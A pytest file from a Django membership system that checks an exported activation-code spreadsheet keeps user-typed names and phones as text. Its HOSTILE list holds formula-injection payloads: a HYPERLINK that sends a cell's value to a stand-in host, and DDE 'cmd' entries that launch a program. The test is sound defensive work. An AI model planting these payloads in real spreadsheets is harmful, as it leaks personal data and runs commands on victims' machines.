"""The activation-code sheet keeps names, card numbers and phones as text (issue 15, item 3).

A roster can carry anything a person typed; a name such as
``=HYPERLINK("http://…?c="&C2,"Bấm để xác nhận")`` must reach the sheet as
that text, never as a formula that runs when the sheet is opened.
"""

import io

import pytest
from openpyxl import load_workbook

from cms.members.choices import Position
from cms.members.factories import MemberFactory

HOSTILE = [
    '=HYPERLINK("http://ke-gian.example/?c="&E3,"Bấm để xác nhận")',
    "+84912345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.django_db
def test_activation_code_sheet_stores_user_text_as_text(client, cell):
    secretary = MemberFactory(cell=cell, position=Position.SECRETARY)
    for name in HOSTILE:
        member = MemberFactory(cell=cell, full_name=name, phone="=1+1")
        member.user.set_unusable_password()
        member.user.save()
    client.force_login(secretary.user)
    response = client.post(
        f"/quan-ly-tai-khoan/chi-bo/{cell.code}/in-ma-kich-hoat/", {"format": "xlsx"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value: c for c in cells if c.column_letter == "B"}
    for name in HOSTILE:
        assert names[name].data_type == "s" and names[name].quotePrefix
    phones = [c for c in cells if c.column_letter == "D" and c.value == "=1+1"]
    assert len(phones) == len(HOSTILE) and all(c.data_type == "s" for c in phones)
